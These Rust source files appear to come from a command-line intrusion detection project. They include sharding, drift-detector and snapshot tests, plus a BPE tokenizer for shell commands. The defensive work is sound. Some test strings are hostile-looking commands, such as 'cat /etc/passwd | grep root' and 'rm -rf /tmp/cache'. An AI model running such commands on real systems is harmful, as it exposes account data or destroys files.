        train_lines.len() + burst.len()
    );
    assert!(
        counts.iter().filter(|&&c| c > 0).count() >= 2,
        "the re-partition left everything on one shard: {counts:?}"
    );

    // Converged: live split + racing append ≡ stop-the-world, bit for
    // bit, and the router keeps absorbing supervision afterwards.
    let got = live.score_batch(&test_lines).expect("post-split scores");
    assert_eq!(got, want, "live reshard diverged from stop-the-world");
    live.append(&test_lines[..4], &[true, false, true, false])
        .expect("post-split append");
    live.shutdown();
}

#[test]
fn reshard_rejects_zero_shards() {
    let (pipeline, train_lines, labels, _) = fixture();
    let router = ShardRouter::spawn(
        pipeline.clone(),
        fit(
            &pipeline,
            &train_lines,
            &labels,
            IndexConfig::Exact.with_shards(SHARDS),
        ),
        RouterConfig::with_shards(SHARDS),
    )
    .expect("router spawns");
    assert!(matches!(
        router.reshard(0),
        Err(ServeError::InvalidConfig(_))
    ));
    // Resharding to the current count is a no-op, not an error.
    router.reshard(SHARDS).expect("no-op reshard");
    assert_eq!(router.shards(), SHARDS);
    router.shutdown();
}

#[test]
fn shard_shape_mismatches_are_typed_errors() {
    let (pipeline, train_lines, labels, _) = fixture();
    // Unsharded fit + multi-shard router: rejected, not mis-served.
    let engine = fit(&pipeline, &train_lines, &labels, IndexConfig::Exact);
    match ShardRouter::spawn(pipeline.clone(), engine, RouterConfig::with_shards(2)) {
        Err(ServeError::InvalidConfig(why)) => {
            assert!(why.contains("with_shards"), "unhelpful message: {why}")
        }
        Err(other) => panic!("expected InvalidConfig, got {other:?}"),
        Ok(_) => panic!("router spawned over an unsharded fit"),
    }
    // Shard-count disagreement between fit and router: same.
    let engine = fit(
        &pipeline,
        &train_lines,
        &labels,
        IndexConfig::Exact.with_shards(4),
    );
    assert!(matches!(
        ShardRouter::spawn(pipeline, engine, RouterConfig::with_shards(2)),
        Err(ServeError::InvalidConfig(_))
    ));
}
