//! Property pins for the score-distribution-shift tracker: the drift
//! trigger is a pure function of the observed score sequence, so
//! every claim below is a theorem over arbitrary inputs, not a tuning
//! accident.
//!
//! * **Deterministic**: two trackers fed the same sequence agree
//!   bit-for-bit at every step, and batched observation is exactly
//!   the per-score loop.
//! * **No false fire**: replaying the reference window verbatim as
//!   the current window yields a statistic of exactly `0.0` — the
//!   trigger can never fire on an identical distribution, however
//!   tight the threshold.
//! * **No missed fire**: a current window wholly outside the
//!   reference's range drives the statistic past any configured
//!   threshold (the `PSI_EPS` floor makes complete separation score
//!   ~`ln(1/EPS)` per unit of moved mass).

use proptest::prelude::*;
use serve::{DriftConfig, DriftDetector};

const WINDOW: usize = 16;

fn config(bins: usize, threshold: f32) -> DriftConfig {
    DriftConfig {
        window: WINDOW,
        bins,
        threshold,
        append_threshold: 0,
    }
}

proptest! {
    #[test]
    fn identical_streams_agree_bit_for_bit(
        scores in prop::collection::vec(-50.0f32..50.0, 3 * WINDOW),
        bins in 2usize..=8,
        threshold in 0.01f32..2.0,
    ) {
        let mut a = DriftDetector::new(config(bins, threshold)).expect("valid config");
        let mut b = DriftDetector::new(config(bins, threshold)).expect("valid config");
        for &s in &scores {
            a.observe(s);
            b.observe(s);
            prop_assert_eq!(a.statistic(), b.statistic());
            prop_assert_eq!(a.fired(), b.fired());
        }
        // Batched observation is exactly the loop above.
        let mut c = DriftDetector::new(config(bins, threshold)).expect("valid config");
        c.observe_batch(&scores);
        prop_assert_eq!(c.statistic(), a.statistic());
        prop_assert_eq!(c.fired(), a.fired());
        prop_assert_eq!(c.observations(), a.observations());
    }

    #[test]
    fn identical_distribution_never_fires(
        window in prop::collection::vec(-50.0f32..50.0, WINDOW),
        bins in 2usize..=8,
    ) {
        // The tightest threshold the config validator admits still
        // must not fire when the current window replays the reference
        // verbatim: the statistic is exactly zero, not merely small.
        let mut tracker = DriftDetector::new(config(bins, f32::MIN_POSITIVE))
            .expect("valid config");
        tracker.observe_batch(&window);
        // Reference alone must not compare yet.
        prop_assert_eq!(tracker.statistic(), None);
        tracker.observe_batch(&window);
        prop_assert_eq!(tracker.statistic(), Some(0.0));
        prop_assert!(!tracker.fired());
    }

    #[test]
    fn complete_separation_always_fires(
        reference in prop::collection::vec(0.0f32..1.0, WINDOW),
        offset in 2.0f32..100.0,
        bins in 2usize..=8,
        threshold in 0.01f32..5.0,
    ) {
        let mut tracker = DriftDetector::new(config(bins, threshold)).expect("valid config");
        tracker.observe_batch(&reference);
        prop_assert!(!tracker.fired(), "must not fire before both windows fill");
        let shifted: Vec<f32> = reference.iter().map(|&s| s + offset).collect();
        tracker.observe_batch(&shifted);
        let statistic = tracker.statistic().expect("both windows full");
        prop_assert!(
            statistic > threshold,
            "complete separation scored {statistic} <= threshold {threshold}"
        );
        prop_assert!(tracker.fired());
        // reset() restarts the reference; the trigger disarms.
        tracker.reset();
        prop_assert_eq!(tracker.statistic(), None);
        prop_assert!(!tracker.fired());
    }
}
