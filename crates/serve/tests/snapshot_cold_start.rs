//! Cold-start persistence: a `ServiceSnapshot` save → load round trip
//! restores the fitted neighbour detectors with their graphs adopted
//! as-is — zero construction passes (asserted via the index crate's
//! build-pass counter) — and the restored service answers
//! bit-identically to the original, then keeps absorbing supervision.

use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, IndexConfig, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{ScoringService, ServeConfig, ServiceSnapshot};

use anomaly::{PcaMethod, RetrievalMethod, VanillaKnnMethod};

fn fixture() -> (IdsPipeline, Vec<String>, Vec<bool>, Vec<String>) {
    let mut config = PipelineConfig::fast();
    config.train_size = 600;
    config.test_size = 250;
    config.attack_prob = 0.25;
    let mut rng = StdRng::seed_from_u64(4242);
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    let train: Vec<String> = dataset.train.iter().map(|r| r.line.clone()).collect();
    let test: Vec<String> = dedup_records(&dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();
    (pipeline, train, labels, test)
}

#[test]
fn snapshot_round_trip_skips_graph_construction_and_preserves_scores() {
    let (pipeline, train_lines, labels, test_lines) = fixture();
    let store = EmbeddingStore::new(&pipeline);
    let train = store.view_of(&train_lines, Pooling::Mean);
    let fitted = ScoringEngine::new()
        .with_index_config(IndexConfig::hnsw())
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .register(Box::new(PcaMethod::new(0.95)))
        .fit(&train, &labels)
        .expect("fit succeeds");

    // Capture: the two neighbour methods snapshot; PCA (which refits
    // from data in milliseconds) is reported as skipped.
    let (snapshot, skipped) = ServiceSnapshot::capture(&fitted);
    assert_eq!(snapshot.len(), 2);
    assert_eq!(skipped, ["pca"]);

    let path =
        std::env::temp_dir().join(format!("cmdline-ids-snapshot-{}.bin", std::process::id()));
    snapshot.save(&path).expect("snapshot saves");

    // Baseline verdicts from the original resident set.
    let service = ScoringService::spawn(pipeline.clone(), fitted, ServeConfig::default())
        .expect("service spawns");
    let want: Vec<Vec<f32>> = test_lines
        .iter()
        .map(|l| service.score_line(l).expect("original service scores"))
        .collect();
    service.shutdown();

    // Cold start: load + restore must adopt the saved HNSW graphs
    // without a single construction pass.
    let passes_before = index::construction_passes();
    let restored = ServiceSnapshot::load(&path)
        .expect("snapshot loads")
        .restore();
    assert_eq!(
        index::construction_passes(),
        passes_before,
        "cold start must skip the O(n·ef_construction) build"
    );
    std::fs::remove_file(&path).ok();

    assert_eq!(restored.method_names(), ["retrieval", "vanilla-knn"]);
    let cold = ScoringService::spawn(pipeline, restored, ServeConfig::default())
        .expect("cold service spawns");
    for (line, want_scores) in test_lines.iter().zip(&want) {
        let got = cold.score_line(line).expect("cold service scores");
        // The cold service dropped PCA (index 2); the neighbour
        // verdicts must be bit-identical.
        assert_eq!(&got[..], &want_scores[..2], "line {line:?}");
    }

    // The restored detectors stay live: supervision keeps flowing into
    // the adopted graphs through the incremental insert path.
    let absorbed = cold
        .append(&test_lines[..4], &[true, true, false, true])
        .expect("append succeeds");
    assert_eq!(absorbed, 2, "both neighbour methods absorb");
    let rescored = cold.score_line(&test_lines[0]).expect("still serving");
    assert!(rescored.iter().all(|s| s.is_finite()));
    cold.shutdown();
}
