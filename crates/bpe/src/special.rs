//! Special tokens used by the command-line language model.

use serde::{Deserialize, Serialize};
use std::fmt;

/// The five BERT-style special tokens. Their ids are fixed at the front
/// of every vocabulary, in declaration order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum SpecialToken {
    /// Padding for batching, id 0.
    Pad,
    /// Unknown symbol fallback, id 1.
    Unk,
    /// Sequence-classification slot, id 2 — the `[CLS]` embedding probed
    /// by classification-based tuning (paper Section IV-B).
    Cls,
    /// Separator between concatenated lines, id 3.
    Sep,
    /// Mask token for MLM pre-training, id 4 (paper Section II-B).
    Mask,
}

impl SpecialToken {
    /// All special tokens in id order.
    pub const ALL: [SpecialToken; 5] = [
        SpecialToken::Pad,
        SpecialToken::Unk,
        SpecialToken::Cls,
        SpecialToken::Sep,
        SpecialToken::Mask,
    ];

    /// The fixed vocabulary id of this token.
    pub fn id(self) -> u32 {
        match self {
            SpecialToken::Pad => 0,
            SpecialToken::Unk => 1,
            SpecialToken::Cls => 2,
            SpecialToken::Sep => 3,
            SpecialToken::Mask => 4,
        }
    }

    /// The surface form (`"[PAD]"`, …).
    pub fn as_str(self) -> &'static str {
        match self {
            SpecialToken::Pad => "[PAD]",
            SpecialToken::Unk => "[UNK]",
            SpecialToken::Cls => "[CLS]",
            SpecialToken::Sep => "[SEP]",
            SpecialToken::Mask => "[MASK]",
        }
    }
}

impl fmt::Display for SpecialToken {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_are_dense_from_zero() {
        for (i, t) in SpecialToken::ALL.iter().enumerate() {
            assert_eq!(t.id() as usize, i);
        }
    }

    #[test]
    fn surface_forms_are_bracketed() {
        for t in SpecialToken::ALL {
            let s = t.as_str();
            assert!(s.starts_with('[') && s.ends_with(']'));
            assert_eq!(format!("{t}"), s);
        }
    }
}
