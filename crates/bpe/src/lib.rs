//! Byte-pair-encoding tokenizer for command lines.
//!
//! The paper (Section II-B) tokenizes command lines with BPE [Sennrich et
//! al.] before feeding them to the language model, using a 50 000-token
//! vocabulary and a 1024-token maximum length. This crate implements:
//!
//! * [`Trainer`] — learns BPE merges from a corpus.
//! * [`Tokenizer`] — encodes/decodes lines; supports the BERT-style
//!   special tokens `[PAD]`, `[UNK]`, `[CLS]`, `[SEP]`, `[MASK]` used by
//!   masked-language-model pre-training and `[CLS]`-probing.
//!
//! Pre-tokenization splits on whitespace and marks word starts with `▁`
//! (the sentencepiece convention), mirroring the `⎵` markers in the
//! paper's Figure 1 (`php ⎵-r ⎵" php info () ; "`).
//!
//! ```
//! use bpe::{Trainer, Tokenizer};
//!
//! let corpus = ["ls -la /tmp", "ls /home", "cat /tmp/x"];
//! let tok: Tokenizer = Trainer::new(64).train(corpus.iter().copied());
//! let ids = tok.encode("ls -la /home");
//! assert_eq!(tok.decode(&ids), "ls -la /home");
//! ```

pub mod encoder;
pub mod pretokenize;
pub mod special;
pub mod trainer;
pub mod vocab;

pub use encoder::Tokenizer;
pub use special::SpecialToken;
pub use trainer::Trainer;
pub use vocab::Vocab;
