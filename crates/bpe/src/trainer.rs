//! BPE merge learning (Sennrich et al., the paper's reference [20]).

use crate::encoder::Tokenizer;
use crate::pretokenize::{pretokenize, to_symbols};
use crate::vocab::Vocab;
use std::collections::HashMap;

/// Learns a BPE vocabulary from a corpus of command lines.
///
/// The classic algorithm: count whitespace pre-tokens, repeatedly merge
/// the most frequent adjacent symbol pair until `vocab_size` is reached
/// or no pair occurs at least `min_pair_freq` times.
///
/// The vocabulary is seeded with the special tokens, the word marker and
/// all printable ASCII (101 entries); merges are added until the budget
/// is reached.
///
/// ```
/// use bpe::Trainer;
/// let tok = Trainer::new(150).train(["echo hi", "echo ho"].into_iter());
/// assert!(tok.vocab_size() <= 150);
/// ```
#[derive(Debug, Clone)]
pub struct Trainer {
    vocab_size: usize,
    min_pair_freq: usize,
}

impl Trainer {
    /// Creates a trainer targeting `vocab_size` total entries
    /// (special tokens + single characters + merges).
    ///
    /// # Panics
    ///
    /// Panics if `vocab_size < 6` (specials leave no room for symbols).
    pub fn new(vocab_size: usize) -> Self {
        assert!(
            vocab_size >= 6,
            "vocab_size must leave room beyond specials"
        );
        Trainer {
            vocab_size,
            min_pair_freq: 2,
        }
    }

    /// Sets the minimum pair frequency required to perform a merge.
    pub fn min_pair_freq(mut self, freq: usize) -> Self {
        self.min_pair_freq = freq.max(1);
        self
    }

    /// Learns merges from `lines` and returns the resulting tokenizer.
    pub fn train<'a>(&self, lines: impl Iterator<Item = &'a str>) -> Tokenizer {
        // Unique pre-token -> frequency.
        let mut word_freq: HashMap<String, usize> = HashMap::new();
        for line in lines {
            for pre in pretokenize(line) {
                *word_freq.entry(pre).or_insert(0) += 1;
            }
        }

        // Working representation: symbol sequences with frequencies.
        let mut words: Vec<(Vec<String>, usize)> =
            word_freq.iter().map(|(w, &f)| (to_symbols(w), f)).collect();
        // Deterministic order regardless of hash seeds.
        words.sort_by(|a, b| a.0.cmp(&b.0));

        let mut vocab = Vocab::new();
        // Seed with the word marker, all printable ASCII (shell syntax is
        // ASCII-heavy; this keeps punctuation encodable even when absent
        // from the training sample), then every observed character.
        vocab.add(&crate::pretokenize::WORD_MARKER.to_string());
        for c in ' '..='~' {
            vocab.add(&c.to_string());
        }
        let mut chars: Vec<&String> = words.iter().flat_map(|(syms, _)| syms).collect();
        chars.sort();
        chars.dedup();
        for c in chars {
            vocab.add(c);
        }

        let mut merges: Vec<(String, String)> = Vec::new();
        while vocab.len() < self.vocab_size {
            let Some(((left, right), freq)) = best_pair(&words) else {
                break;
            };
            if freq < self.min_pair_freq {
                break;
            }
            let merged = format!("{left}{right}");
            vocab.add(&merged);
            apply_merge(&mut words, &left, &right, &merged);
            merges.push((left, right));
        }

        Tokenizer::from_parts(vocab, merges)
    }
}

/// Finds the most frequent adjacent pair; ties broken lexicographically
/// for determinism.
fn best_pair(words: &[(Vec<String>, usize)]) -> Option<((String, String), usize)> {
    let mut counts: HashMap<(&str, &str), usize> = HashMap::new();
    for (syms, freq) in words {
        for pair in syms.windows(2) {
            *counts.entry((&pair[0], &pair[1])).or_insert(0) += freq;
        }
    }
    counts
        .into_iter()
        .max_by(|a, b| a.1.cmp(&b.1).then_with(|| b.0.cmp(&a.0)))
        .map(|((l, r), f)| ((l.to_string(), r.to_string()), f))
}

fn apply_merge(words: &mut [(Vec<String>, usize)], left: &str, right: &str, merged: &str) {
    for (syms, _) in words.iter_mut() {
        let mut i = 0;
        while i + 1 < syms.len() {
            if syms[i] == left && syms[i + 1] == right {
                syms[i] = merged.to_string();
                syms.remove(i + 1);
            } else {
                i += 1;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn learns_frequent_word_as_single_token() {
        let corpus = vec!["ls -la"; 50];
        let tok = Trainer::new(200).train(corpus.into_iter());
        // `▁ls` should have merged into one symbol.
        let ids = tok.encode("ls");
        assert_eq!(ids.len(), 1, "`ls` should be a single token, got {ids:?}");
    }

    #[test]
    fn respects_vocab_budget() {
        let corpus = ["the quick brown fox jumps over the lazy dog"; 20];
        let tok = Trainer::new(110).train(corpus.into_iter());
        assert!(tok.vocab_size() <= 110);
        // The seed is 101 entries, so at most 9 merges were learned.
        assert!(tok.merges().len() <= 9);
    }

    #[test]
    fn min_pair_freq_stops_rare_merges() {
        // Every pair occurs once; with min freq 2 nothing merges.
        let tok = Trainer::new(1000)
            .min_pair_freq(2)
            .train(["abcdef"].into_iter());
        // 5 specials + marker + 95 printable ASCII, no merges.
        assert_eq!(tok.vocab_size(), 5 + 1 + 95);
        assert!(tok.merges().is_empty());
    }

    #[test]
    fn training_is_deterministic() {
        let corpus = ["cat /etc/passwd | grep root", "cat /var/log | grep err"];
        let a = Trainer::new(80).train(corpus.iter().copied());
        let b = Trainer::new(80).train(corpus.iter().copied());
        assert_eq!(a.merges(), b.merges());
        assert_eq!(a.encode("cat /x | grep y"), b.encode("cat /x | grep y"));
    }

    #[test]
    fn empty_corpus_yields_seed_only() {
        let tok = Trainer::new(500).train(std::iter::empty());
        assert_eq!(tok.vocab_size(), 101);
        assert!(tok.merges().is_empty());
    }

    #[test]
    #[should_panic(expected = "vocab_size")]
    fn tiny_vocab_panics() {
        let _ = Trainer::new(3);
    }
}
