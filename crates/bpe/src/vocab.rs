//! Token ↔ id vocabulary with fixed special-token prefix.

use crate::special::SpecialToken;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// A bidirectional token/id map.
///
/// Ids `0..5` are always the [`SpecialToken`]s; learned symbols follow.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Vocab {
    token_to_id: HashMap<String, u32>,
    id_to_token: Vec<String>,
}

impl Default for Vocab {
    fn default() -> Self {
        Self::new()
    }
}

impl Vocab {
    /// Creates a vocabulary holding only the special tokens.
    pub fn new() -> Self {
        let mut v = Vocab {
            token_to_id: HashMap::new(),
            id_to_token: Vec::new(),
        };
        for t in SpecialToken::ALL {
            let id = v.id_to_token.len() as u32;
            debug_assert_eq!(id, t.id());
            v.id_to_token.push(t.as_str().to_string());
            v.token_to_id.insert(t.as_str().to_string(), id);
        }
        v
    }

    /// Adds `token` if absent; returns its id either way.
    pub fn add(&mut self, token: &str) -> u32 {
        if let Some(&id) = self.token_to_id.get(token) {
            return id;
        }
        let id = self.id_to_token.len() as u32;
        self.id_to_token.push(token.to_string());
        self.token_to_id.insert(token.to_string(), id);
        id
    }

    /// Looks up a token's id.
    pub fn id_of(&self, token: &str) -> Option<u32> {
        self.token_to_id.get(token).copied()
    }

    /// Looks up an id's token text.
    pub fn token_of(&self, id: u32) -> Option<&str> {
        self.id_to_token.get(id as usize).map(|s| s.as_str())
    }

    /// Number of entries including special tokens.
    pub fn len(&self) -> usize {
        self.id_to_token.len()
    }

    /// `false` — a vocabulary always holds the special tokens.
    pub fn is_empty(&self) -> bool {
        false
    }

    /// `true` if `id` denotes a special token.
    pub fn is_special(&self, id: u32) -> bool {
        (id as usize) < SpecialToken::ALL.len()
    }

    /// Iterates `(id, token)` pairs in id order.
    pub fn iter(&self) -> impl Iterator<Item = (u32, &str)> {
        self.id_to_token
            .iter()
            .enumerate()
            .map(|(i, t)| (i as u32, t.as_str()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn new_vocab_holds_specials() {
        let v = Vocab::new();
        assert_eq!(v.len(), 5);
        assert_eq!(v.id_of("[CLS]"), Some(2));
        assert_eq!(v.token_of(4), Some("[MASK]"));
        assert!(!v.is_empty());
    }

    #[test]
    fn add_is_idempotent() {
        let mut v = Vocab::new();
        let a = v.add("▁ls");
        let b = v.add("▁ls");
        assert_eq!(a, b);
        assert_eq!(v.len(), 6);
    }

    #[test]
    fn ids_are_dense() {
        let mut v = Vocab::new();
        let a = v.add("x");
        let b = v.add("y");
        assert_eq!(b, a + 1);
    }

    #[test]
    fn special_detection() {
        let mut v = Vocab::new();
        let id = v.add("▁rm");
        assert!(v.is_special(0));
        assert!(v.is_special(4));
        assert!(!v.is_special(id));
    }

    #[test]
    fn iter_in_id_order() {
        let mut v = Vocab::new();
        v.add("a");
        let collected: Vec<_> = v.iter().map(|(i, _)| i).collect();
        assert_eq!(collected, vec![0, 1, 2, 3, 4, 5]);
    }
}
