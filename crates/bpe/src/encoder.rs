//! Encoding and decoding with a trained BPE vocabulary.

use crate::pretokenize::{detokenize, pretokenize, to_symbols};
use crate::special::SpecialToken;
use crate::vocab::Vocab;
use memo_cache::Cache;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// A tiny thread-safe memoization shim.
///
/// Encoding the same pre-token repeatedly is the common case in logs
/// (Zipf law), so [`Tokenizer::encode`] memoizes per-word splits. The
/// cache sits behind a `std::sync::Mutex` so a frozen tokenizer is
/// `Sync` — the scoring engine scores detectors holding pipeline
/// copies from parallel threads. The lock is uncontended in the
/// single-threaded case and far cheaper than the merge loop it skips.
mod memo_cache {
    use std::collections::HashMap;
    use std::sync::Mutex;

    #[derive(Debug, Default)]
    pub struct Cache {
        inner: Mutex<HashMap<String, Vec<u32>>>,
    }

    impl Cache {
        pub fn get(&self, key: &str) -> Option<Vec<u32>> {
            self.inner.lock().unwrap().get(key).cloned()
        }

        pub fn put(&self, key: String, val: Vec<u32>) {
            let mut map = self.inner.lock().unwrap();
            // Bound memory: logs contain a long tail of unique words.
            if map.len() >= 65_536 {
                map.clear();
            }
            map.insert(key, val);
        }
    }

    impl Clone for Cache {
        fn clone(&self) -> Self {
            Cache::default()
        }
    }
}

/// A trained BPE tokenizer.
///
/// Create one with [`crate::Trainer::train`]; encode lines with
/// [`Tokenizer::encode`] or [`Tokenizer::encode_for_model`].
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Tokenizer {
    vocab: Vocab,
    merges: Vec<(String, String)>,
    #[serde(skip)]
    merge_rank: HashMap<(String, String), usize>,
    #[serde(skip)]
    cache: Cache,
}

impl Tokenizer {
    /// Assembles a tokenizer from a vocabulary and ordered merge list.
    pub fn from_parts(vocab: Vocab, merges: Vec<(String, String)>) -> Self {
        let merge_rank = merges
            .iter()
            .enumerate()
            .map(|(i, (l, r))| ((l.clone(), r.clone()), i))
            .collect();
        Tokenizer {
            vocab,
            merges,
            merge_rank,
            cache: Cache::default(),
        }
    }

    /// Rebuilds derived tables after deserialization.
    pub fn rehydrate(&mut self) {
        self.merge_rank = self
            .merges
            .iter()
            .enumerate()
            .map(|(i, (l, r))| ((l.clone(), r.clone()), i))
            .collect();
    }

    /// Total vocabulary size (specials included).
    pub fn vocab_size(&self) -> usize {
        self.vocab.len()
    }

    /// The learned merges in application order.
    pub fn merges(&self) -> &[(String, String)] {
        &self.merges
    }

    /// The underlying vocabulary.
    pub fn vocab(&self) -> &Vocab {
        &self.vocab
    }

    /// Encodes a line to token ids (no special tokens added).
    ///
    /// Unknown characters map to `[UNK]`.
    pub fn encode(&self, line: &str) -> Vec<u32> {
        let mut out = Vec::new();
        for pre in pretokenize(line) {
            if let Some(ids) = self.cache.get(&pre) {
                out.extend_from_slice(&ids);
                continue;
            }
            let ids = self.encode_pretoken(&pre);
            self.cache.put(pre, ids.clone());
            out.extend(ids);
        }
        out
    }

    /// Encodes for model input: `[CLS] tokens… [SEP]`, truncated to
    /// `max_len` total ids (the paper trims at 1024).
    ///
    /// # Panics
    ///
    /// Panics if `max_len < 2` (no room for `[CLS]`/`[SEP]`).
    pub fn encode_for_model(&self, line: &str, max_len: usize) -> Vec<u32> {
        assert!(max_len >= 2, "max_len must fit [CLS] and [SEP]");
        let body = self.encode(line);
        let keep = body.len().min(max_len - 2);
        let mut out = Vec::with_capacity(keep + 2);
        out.push(SpecialToken::Cls.id());
        out.extend_from_slice(&body[..keep]);
        out.push(SpecialToken::Sep.id());
        out
    }

    /// Encodes several lines joined by `;` separators into one model
    /// input — the paper's multi-line classification format
    /// (Section IV-C).
    ///
    /// Unlike [`Tokenizer::encode_for_model`], truncation keeps the
    /// **tail**: the last line is the classification target, so when the
    /// window exceeds `max_len` it is the oldest context that is cut,
    /// never the target.
    ///
    /// # Panics
    ///
    /// Panics if `max_len < 2`.
    pub fn encode_multi_for_model(&self, lines: &[&str], max_len: usize) -> Vec<u32> {
        assert!(max_len >= 2, "max_len must fit [CLS] and [SEP]");
        let joined = lines.join(" ; ");
        let body = self.encode(&joined);
        let keep = body.len().min(max_len - 2);
        let start = body.len() - keep;
        let mut out = Vec::with_capacity(keep + 2);
        out.push(SpecialToken::Cls.id());
        out.extend_from_slice(&body[start..]);
        out.push(SpecialToken::Sep.id());
        out
    }

    /// Decodes ids back to a command line; special tokens are skipped.
    pub fn decode(&self, ids: &[u32]) -> String {
        let mut text = String::new();
        for &id in ids {
            if self.vocab.is_special(id) {
                continue;
            }
            if let Some(tok) = self.vocab.token_of(id) {
                text.push_str(tok);
            }
        }
        detokenize(&text)
    }

    /// Applies merges to one pre-token greedily by merge rank (the GPT-2
    /// strategy) and maps the resulting symbols to ids.
    fn encode_pretoken(&self, pre: &str) -> Vec<u32> {
        let mut syms = to_symbols(pre);
        loop {
            // Find the lowest-rank applicable merge.
            let mut best: Option<(usize, usize)> = None; // (rank, index)
            for i in 0..syms.len().saturating_sub(1) {
                let key = (syms[i].clone(), syms[i + 1].clone());
                if let Some(&rank) = self.merge_rank.get(&key) {
                    if best.map(|(r, _)| rank < r).unwrap_or(true) {
                        best = Some((rank, i));
                    }
                }
            }
            let Some((_, i)) = best else { break };
            let merged = format!("{}{}", syms[i], syms[i + 1]);
            syms[i] = merged;
            syms.remove(i + 1);
        }
        syms.iter()
            .map(|s| {
                self.vocab
                    .id_of(s)
                    .unwrap_or_else(|| SpecialToken::Unk.id())
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Trainer;

    fn demo_tokenizer() -> Tokenizer {
        let corpus = [
            "ls -la /tmp",
            "ls /home/user",
            "cat /tmp/file",
            "grep -r pattern /tmp",
            "rm -rf /tmp/cache",
            "docker ps -a",
            "docker run -it ubuntu bash",
        ];
        Trainer::new(200).train(corpus.iter().copied().cycle().take(70))
    }

    #[test]
    fn encode_decode_round_trip() {
        let tok = demo_tokenizer();
        for line in ["ls -la /tmp", "docker ps -a", "cat /tmp/file"] {
            assert_eq!(tok.decode(&tok.encode(line)), line);
        }
    }

    #[test]
    fn round_trip_with_unseen_words() {
        let tok = demo_tokenizer();
        // All chars seen in training, so this still round-trips.
        let line = "ls /tmp/docker";
        assert_eq!(tok.decode(&tok.encode(line)), line);
    }

    #[test]
    fn unknown_characters_become_unk() {
        let tok = demo_tokenizer();
        let ids = tok.encode("ls ☃");
        assert!(ids.contains(&SpecialToken::Unk.id()));
    }

    #[test]
    fn encode_for_model_wraps_with_cls_sep() {
        let tok = demo_tokenizer();
        let ids = tok.encode_for_model("ls -la", 16);
        assert_eq!(ids[0], SpecialToken::Cls.id());
        assert_eq!(*ids.last().unwrap(), SpecialToken::Sep.id());
    }

    #[test]
    fn encode_for_model_truncates() {
        let tok = demo_tokenizer();
        let long = "x ".repeat(200);
        let ids = tok.encode_for_model(&long, 10);
        assert_eq!(ids.len(), 10);
        assert_eq!(ids[0], SpecialToken::Cls.id());
        assert_eq!(*ids.last().unwrap(), SpecialToken::Sep.id());
    }

    #[test]
    fn multi_line_joins_with_semicolons() {
        let tok = demo_tokenizer();
        let ids = tok.encode_multi_for_model(&["ls -la", "cat /tmp/file"], 64);
        let decoded = tok.decode(&ids);
        assert_eq!(decoded, "ls -la ; cat /tmp/file");
    }

    #[test]
    fn multi_line_truncation_keeps_the_target_tail() {
        let tok = demo_tokenizer();
        let long_context = "docker run -it ubuntu bash".repeat(8);
        let ids = tok.encode_multi_for_model(&[&long_context, "ls -la"], 12);
        assert_eq!(ids.len(), 12);
        let decoded = tok.decode(&ids);
        // The target (last) line must survive truncation.
        assert!(decoded.ends_with("ls -la"), "target line lost: {decoded:?}");
    }

    #[test]
    fn decode_skips_specials() {
        let tok = demo_tokenizer();
        let mut ids = vec![SpecialToken::Cls.id(), SpecialToken::Mask.id()];
        ids.extend(tok.encode("ls"));
        ids.push(SpecialToken::Sep.id());
        assert_eq!(tok.decode(&ids), "ls");
    }

    #[test]
    fn cache_does_not_change_results() {
        let tok = demo_tokenizer();
        let first = tok.encode("docker run -it ubuntu bash");
        let second = tok.encode("docker run -it ubuntu bash");
        assert_eq!(first, second);
    }

    #[test]
    fn clone_preserves_behaviour() {
        let tok = demo_tokenizer();
        let clone = tok.clone();
        assert_eq!(tok.encode("ls -la /tmp"), clone.encode("ls -la /tmp"));
    }

    #[test]
    fn rehydrate_restores_merge_ranks() {
        let tok = demo_tokenizer();
        let mut copy = Tokenizer::from_parts(tok.vocab().clone(), tok.merges().to_vec());
        copy.merge_rank.clear();
        copy.rehydrate();
        assert_eq!(copy.encode("ls -la"), tok.encode("ls -la"));
    }

    #[test]
    #[should_panic(expected = "max_len")]
    fn model_encoding_needs_room() {
        let tok = demo_tokenizer();
        let _ = tok.encode_for_model("ls", 1);
    }
}
