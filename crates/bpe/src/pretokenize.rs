//! Whitespace pre-tokenization with sentencepiece-style word markers.
//!
//! BPE merges never cross pre-token boundaries. Each whitespace-separated
//! chunk becomes one pre-token whose first symbol carries the `▁` word
//! marker, so that decoding can restore spacing exactly — mirroring the
//! `⎵` glyphs in the paper's Figure 1.

/// The word-start marker character.
pub const WORD_MARKER: char = '▁';

/// Splits a line into pre-tokens, prefixing each with [`WORD_MARKER`].
///
/// ```
/// use bpe::pretokenize::pretokenize;
/// assert_eq!(pretokenize("ls -la"), vec!["▁ls", "▁-la"]);
/// ```
pub fn pretokenize(line: &str) -> Vec<String> {
    line.split_whitespace()
        .map(|w| format!("{WORD_MARKER}{w}"))
        .collect()
}

/// Joins decoded symbol text back into a line, turning word markers into
/// single spaces (and trimming the leading one).
pub fn detokenize(text: &str) -> String {
    let replaced: String = text
        .chars()
        .map(|c| if c == WORD_MARKER { ' ' } else { c })
        .collect();
    replaced.trim_start().to_string()
}

/// Splits a pre-token into its initial single-character symbols.
pub fn to_symbols(pretoken: &str) -> Vec<String> {
    pretoken.chars().map(|c| c.to_string()).collect()
}

